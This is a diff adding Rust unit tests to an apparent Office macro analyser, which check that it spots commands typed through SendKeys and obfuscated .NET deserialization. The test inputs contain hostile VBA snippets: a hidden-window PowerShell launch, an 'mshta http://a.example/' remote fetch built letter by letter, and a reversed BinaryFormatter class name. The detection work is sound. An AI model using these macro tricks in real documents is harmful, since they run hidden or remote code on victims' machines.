@@ -286,6 +286,24 @@ fn the_morning_of_an_office() {
 }
 
 #[test]
+fn what_is_typed_into_a_console_is_run() {
+    let of = |body: &str| details(ActionKind::Run, &opened(body));
+    assert_eq!(of("SendKeys \"^{ESC}\"\nSendKeys \"powershell -w h x~\""), ["powershell -w h x"]);
+    let letters = "For Each c In Array(\"msh\", \"ta http:\", \"//a.example/\")\nSendKeys c\nNext\n";
+    assert_eq!(of(&format!("{letters}Application.SendKeys \"{{ENTER}}\"")), ["mshta http://a.example/"]);
+    for honest in ["\"{ENTER}\"", "\"^c\"", "\"%{F11}%TEsecret~~\"", "\"start of the list~\"", "\"cmd is a word~\""] {
+        assert!(of(&format!("SendKeys {honest}, True")).is_empty(), "{honest}");
+    }
+}
+
+#[test]
+fn objects_of_net_run_what_they_are_read_from() {
+    let class = "\"System.Runtime.Serialization.Formatters.Binary.\" & StrReverse(\"rettamroFyraniB\")";
+    let body = format!("Set f = CreateObject({class})\nf.Deserialize_2 m");
+    assert_eq!(details(ActionKind::Inject, &opened(&body)), ["deserialize_2"]);
+}
+
+#[test]
 fn a_version_hides_no_program() {
     let hidden = |name: &str| details(ActionKind::Hidden, &opened(&format!("Set o = CreateObject({name})"))).len();
     assert_eq!(hidden("\"Excel.Application.\" & Int(Val(Application.Version))"), 0);
